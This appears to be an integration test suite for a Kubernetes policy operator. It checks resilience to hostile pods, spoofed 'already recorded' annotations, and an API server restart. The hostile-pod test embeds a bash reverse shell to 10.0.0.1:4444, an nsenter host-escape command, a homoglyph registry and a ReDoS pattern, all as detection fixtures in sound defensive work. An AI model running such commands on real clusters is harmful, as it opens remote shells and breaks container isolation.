// docs/reliability.md's scenarios that need the real control plane: hostile pods the API server accepts
// never crash or stall the operator, a pod pre-labelled as "already recorded" is still reported,
// and an API server restart is survived with every violating pod handled exactly once.
import { expect } from 'chai';
import { join } from 'node:path';
import { freshNamespace, kubectl, repoRoot, run, waitFor } from '../cluster.ts';
import {
  SERVICE_ACCOUNT,
  applyPolicy,
  type LogLine,
  type OperatorProcess,
  operatorTest,
} from './harness.ts';
import {
  BASELINE,
  DETECTED_AT,
  PRIVILEGED,
  VIOLATING,
  VIOLATIONS,
  annotated,
  container,
  create,
  get,
  pod,
  printLogOnFailure,
  readSettled,
  settledViolationEvents,
  sleep,
  start,
  violationEvents,
  type PodJson,
} from './objects.ts';

/** The pod's violations annotation, once the operator wrote it. */
async function violations(ns: string, name: string, timeoutMs = 20_000): Promise<string> {
  return (await annotated(ns, name, timeoutMs)).metadata.annotations?.[VIOLATIONS] ?? '';
}

async function healthz(op: OperatorProcess): Promise<number> {
  try {
    return (await fetch(`${op.probeUrl}/healthz`, { signal: AbortSignal.timeout(2000) })).status;
  } catch {
    return 0;
  }
}

function watchExit(op: OperatorProcess): { exited: () => boolean } {
  let exited = false;
  void op.exited.then(() => (exited = true));
  return { exited: () => exited };
}

/**
 * Waits until the authorizer grants the operator in `own` the writes it makes for a pod of `ns`
 * (patch the pod, create its Event, patch the policy status). A restarted API server serves
 * requests before its RBAC informers have loaded the bindings.
 */
async function waitForOperatorRbac(own: string, ns: string): Promise<void> {
  const as = `--as=system:serviceaccount:${own}:${SERVICE_ACCOUNT}`;
  const checks = [
    ['patch', 'pods', '-n', ns],
    ['create', 'events', '-n', ns],
    ['patch', 'containerdeploymentpolicies.deployguard.dev', '--subresource=status'],
  ];
  await waitFor(
    'the operator RBAC loaded by the restarted API server',
    async () => {
      for (const c of checks) {
        const r = await kubectl(['auth', 'can-i', ...c, as], { allowFail: true });
        if (r.stdout.trim() !== 'yes') return false;
      }
      return true;
    },
    60_000,
    500,
  );
}

/** Log lines at error level that mean a pod was misjudged or the process misbehaved. */
function seriousErrors(op: OperatorProcess): LogLine[] {
  return op
    .errors()
    .filter((l) =>
      /could not be evaluated|unhandled|action failed|threw|policy invalid/.test(l.msg),
    );
}

describe('operator: resilience', function () {
  this.timeout(120_000);
  afterEach(printLogOnFailure);

  operatorTest(
    'judges hostile pods the API server accepts without crashing or stalling',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-hostile');
      const policy = `hostile-${ns}`;
      await applyPolicy(own, policy, {
        mode: 'Audit',
        match: { namespaces: [ns] },
        rules: {
          ...BASELINE,
          indicators: { enabled: true },
          images: { allowedRegistries: ['registry.example.com/'] },
          // Catastrophic for a backtracking engine over the long args below; linear under RE2.
          commands: { deniedPatterns: ['(x+x+)+y', '(?i)nsenter\\s+-t\\s*1'] },
        },
      });
      const op = await start(own);
      const alive = watchExit(op);

      const env = Array.from({ length: 1000 }, (_, i) => ({
        name: `V${i}`,
        value: `\u202e${'é'.repeat(i % 50)}\u200d😈${i}`,
      }));
      const shell = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
      await create(ns, pod('many-env', { env, ...PRIVILEGED }));
      // ~100 KB of padding in front of a reverse shell: the finding at the end must not be lost.
      await create(
        ns,
        pod('long-args', { command: ['sh', '-c'], args: [`${'x'.repeat(100_000)}; ${shell}`] }),
      );
      // More args than the engine's per-list bound, the payload last: judged fail-closed, not skipped.
      await create(
        ns,
        pod('many-args', {
          command: ['sh', '-c'],
          args: [...Array(1100).fill('true'), 'nsenter -t 1 -m sh'],
        }),
      );
      // Bidi overrides, zero-width joiners, emoji, NUL and 60 KB in annotation values; a homoglyph registry.
      await create(
        ns,
        pod(
          'unicode',
          { image: 'regіstry.example.com/app:1.0' },
          {},
          {
            annotations: {
              'example.com/rtl': '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d \u0000 👩‍👩‍👧',
              'example.com/big': 'ä'.repeat(30_000),
            },
          },
        ),
      );
      // Sixty privileged containers in one pod.
      await create(
        ns,
        pod(
          'wide',
          {},
          {
            containers: Array.from({ length: 60 }, (_, i) =>
              container({ name: `c${i}`, ...PRIVILEGED }),
            ),
          },
        ),
      );

      expect(await violations(ns, 'many-env')).to.contain('"rule":"pss.privileged"');
      expect(await violations(ns, 'long-args')).to.contain('"rule":"indicator.reverseShell"');
      expect(await violations(ns, 'many-args')).to.contain(`"policy":"${policy}"`);
      expect(await violations(ns, 'unicode')).to.contain('"rule":"image.registry"');
      expect(await violations(ns, 'wide')).to.equal(
        `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`,
      );
      // Events are sent without the reconcile waiting: all there first, then exactly one each.
      const hostile = ['many-env', 'long-args', 'many-args', 'unicode', 'wide'];
      const counts = await readSettled(
        'a PolicyViolation event for each hostile pod',
        () => Promise.all(hostile.map((p) => violationEvents(ns, p))),
        (l) => l.every((n) => n >= 1),
      );
      expect(Object.fromEntries(hostile.map((p, i) => [p, counts[i]]))).to.deep.equal(
        Object.fromEntries(hostile.map((p) => [p, 1])),
      );

      expect(alive.exited()).to.equal(false);
      expect(await healthz(op)).to.equal(200);
      // Judging and acting errors only: a transient status write or periodic task failure under
      // load is retried, and not what this test is about.
      expect(op.logs.filter((l) => /unhandled|could not be evaluated/.test(l.msg))).to.deep.equal(
        [],
      );
      expect(seriousErrors(op)).to.deep.equal([]);
    },
  );

  operatorTest(
    'reports a pod that arrives pre-marked as already recorded, or with a garbage mark',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-spoof');
      const policy = `spoof-${ns}`;
      await applyPolicy(own, policy, {
        mode: 'Audit',
        match: { namespaces: [ns] },
        rules: BASELINE,
      });
      const op = await start(own);
      const truth = `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`;
      // The creator writes the operator's own marks: the operator never wrote them, so they prove nothing.
      await create(
        ns,
        pod(
          'spoofed',
          PRIVILEGED,
          {},
          {
            annotations: { [VIOLATIONS]: truth, [DETECTED_AT]: '2020-01-01T00:00:00Z' },
            labels: { [VIOLATING]: 'true' },
          },
        ),
      );
      await create(
        ns,
        pod(
          'garbage',
          PRIVILEGED,
          {},
          {
            annotations: { [VIOLATIONS]: '{{{ not json', [DETECTED_AT]: 'yesterday' },
          },
        ),
      );
      await waitFor('garbage mark replaced', async () => {
        const a = (await get<PodJson>('pod', 'garbage', ns))?.metadata.annotations ?? {};
        return a[VIOLATIONS] === truth && /^\d{4}-/.test(a[DETECTED_AT] ?? '');
      });
      expect(await settledViolationEvents(ns, 'garbage')).to.equal(1);
      // Both detections count, and both are announced.
      await waitFor(
        'PolicyViolation event for the spoofed pod',
        async () => (await violationEvents(ns, 'spoofed')) === 1,
        5000,
      );
      expect(
        await op.metric('deployguard_violations_total', { policy, rule: 'pss.privileged' }),
      ).to.equal(2);
    },
  );

  // Restarts the shared API server: keep it last in this file.
  operatorTest(
    'survives an API server restart and handles every violating pod exactly once',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-apirestart');
      await applyPolicy(own, `apirestart-${ns}`, {
        mode: 'Audit',
        match: { namespaces: [ns] },
        rules: BASELINE,
      });
      const op = await start(own);
      const alive = watchExit(op);
      await create(ns, pod('before-1', PRIVILEGED));
      await create(ns, pod('before-2', PRIVILEGED));
      const marks: Record<string, string | undefined> = {};
      for (const p of ['before-1', 'before-2']) {
        await violations(ns, p);
        marks[p] = JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations);
        // Sent without the reconcile waiting for it: written before the restart could cut it off.
        await waitFor(
          `the PolicyViolation event of ${p}`,
          async () => (await violationEvents(ns, p)) >= 1,
        );
      }

      // Watch /healthz while the API server is away: it may flip, the process must not die.
      const health: number[] = [];
      let polling = true;
      const poller = (async () => {
        while (polling) {
          health.push(await healthz(op));
          await sleep(250);
        }
      })();
      try {
        await run(
          'bash',
          [join(repoRoot, 'test', 'cluster', 'component.sh'), 'restart', 'kube-apiserver'],
          {
            timeoutMs: 120_000,
          },
        );
        // A restarted API server refuses for a few seconds what RBAC allows (its authorizer has
        // not loaded the bindings): the operator retries, and operatorTest counts only refusals
        // the authorizer still gives. The pods of this test are created once it is back.
        await waitForOperatorRbac(own, ns);
        await create(ns, pod('after-1', PRIVILEGED));
        await create(ns, pod('after-2', PRIVILEGED));
        // Watches resume after their backoff (at most 30 s).
        await violations(ns, 'after-1', 40_000);
        await violations(ns, 'after-2', 10_000);
        await waitFor('healthz 200 again', async () => (await healthz(op)) === 200, 30_000);
      } finally {
        polling = false;
        await poller;
      }
      await sleep(1500);
      for (const p of ['before-1', 'before-2']) {
        expect(
          JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations),
          p,
        ).to.equal(marks[p]);
        expect(await violationEvents(ns, p), p).to.equal(1);
      }
      for (const p of ['after-1', 'after-2'])
        expect(await settledViolationEvents(ns, p), p).to.equal(1);
      expect(await op.metric('deployguard_violations_total', { namespace: ns })).to.equal(4);
      expect(await op.metric('deployguard_watch_restarts_total')).to.be.greaterThan(0);
      expect(alive.exited(), 'operator exited during the API server restart').to.equal(false);
      expect(op.logs.filter((l) => /unhandled/.test(l.msg))).to.deep.equal([]);
    },
  );
});
